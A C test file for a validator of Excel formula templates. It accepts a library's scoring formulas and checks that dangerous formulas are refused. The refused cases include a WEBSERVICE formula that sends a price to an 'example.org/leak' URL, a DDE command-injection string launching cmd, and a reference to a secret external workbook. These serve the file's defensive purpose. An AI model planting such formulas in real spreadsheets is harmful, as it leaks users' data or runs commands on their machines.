/* SPDX-License-Identifier: MIT */
/*
** test_xlform.c: the check of a method's Excel form. Every form of the
** library passes; each way a formula can call out, look elsewhere or reach
** cells of its own is refused, with the reason named.
*/
#include <stdio.h>
#include <string.h>
#include "xlform.h"

static int passed, failed;

static void ok(const char *tpl)
{
    char why[600];
    if (xlform_check(tpl, why, sizeof why) == 0) passed++;
    else { failed++; printf("FAIL refused %s: %s\n", tpl, why); }
}

static void refused(const char *tpl, const char *reason)
{
    char why[600] = "";
    if (xlform_check(tpl, why, sizeof why) != 0 && strstr(why, reason)) passed++;
    else { failed++; printf("FAIL %s: want a refusal with \"%s\", got \"%s\"\n", tpl, reason, why); }
}

int main(void)
{
    char big[XLFORM_MAX_TEMPLATE + 2];

    /* the forms of the library, scripts/ */
    ok("INDEX({amounts},{level}+1)");
    ok("{amount}*{fraction}");
    ok("{price}*{percent}/100*{fraction}");
    ok("{field}");
    ok("190000000");
    ok("SUMPRODUCT({quantities},{unit_prices})");
    ok("{purchase}+{once}+{yearly}*(1-(1+{rate})^-{years})/{rate}-{residual}/(1+{rate})^{years}");
    ok("{max}*{lowest}/{price}");
    ok("{max}*(1-({price}-{lowest})/{lowest})");
    ok("IF({highest}={lowest},{max},{max}*({highest}-{price})/({highest}-{lowest}))");
    ok("{max}*(1-LN({price}/{lowest})/LN({A}))");
    ok("{max}*MAX(0,MIN(1,({worst}-{price})/({worst}-{best})))");
    ok("{max}*IF({base}-{price}<={base}-{mean},IF({base}-{mean}=0,0,{x}*({base}-{price})/({base}-{mean})),{x}+(1-{x})*(({base}-{price})-({base}-{mean}))/(({base}-{lowest})-({base}-{mean})))");
    ok("SUM({contributions})");
    ok("{price}+SUM({contributions})");
    ok("{quality}/{price}*1000");
    ok("{quality}/{price}*1/3");
    ok("{quality}/{price}*1.5E-3");
    ok("(1-({best_quality}-{quality})/{max_quality}*{N})/{price}*{lowest_price}");
    ok("{price}/(1+{features}/(1-{features_max}))");
    ok("IF({price}<>0,TRUE,FALSE)");
    ok("round({price}, 2)");

    /* calling out, or looking elsewhere */
    refused("IFERROR(WEBSERVICE(\"http://example.org/leak?p=\"&{price})*0,0)+{max}", "calls IFERROR");
    refused("WEBSERVICE(\"http://example.org/\")", "calls WEBSERVICE");
    refused("{max}+0*WEBSERVICE({price})", "calls WEBSERVICE");
    refused("HYPERLINK({price})", "calls HYPERLINK");
    refused("INDIRECT({price})", "calls INDIRECT");
    refused("_xlfn.WEBSERVICE({price})", "calls _xlfn.WEBSERVICE");
    refused("webservice ({price})", "calls webservice");
    refused("[1]Sheet1!A1*{max}", "another workbook");
    refused("'C:\\secret\\[pay.xlsx]Sheet1'!A1", "in quotes");
    refused("cmd|'/c calc'!A0", "DDE link");
    refused("{max}*\"1\"", "text in quotes");
    refused("{max}&{price}", "'&'");
    refused("Sheet1!A1", "refers to a sheet");
    refused("{max}*A1", "names \"A1\"");
    refused("{max}*LowestPrice", "names \"LowestPrice\"");
    refused("{max}*$A$1", "cell reference ($)");
    refused("SUM(A1:B2)", "names \"A1\"");
    refused("{max}*R1C1", "names \"R1C1\"");
    refused("{price}*{1,2}", "not a name in braces");
    refused("{max", "not a name in braces");
    refused("{max}*(1", "parenthesis open");
    refused("{max})", "did not open");
    refused("", "is empty");
    refused("{max}*12A", "malformed number");
    refused("{max};{price}", "';'");
    refused("{max}\n+1", "control");
    memset(big, '1', sizeof big - 1);
    big[sizeof big - 1] = '\0';
    refused(big, "longer than");

    printf("%d passed, %d failed\n", passed, failed);
    return failed != 0;
}
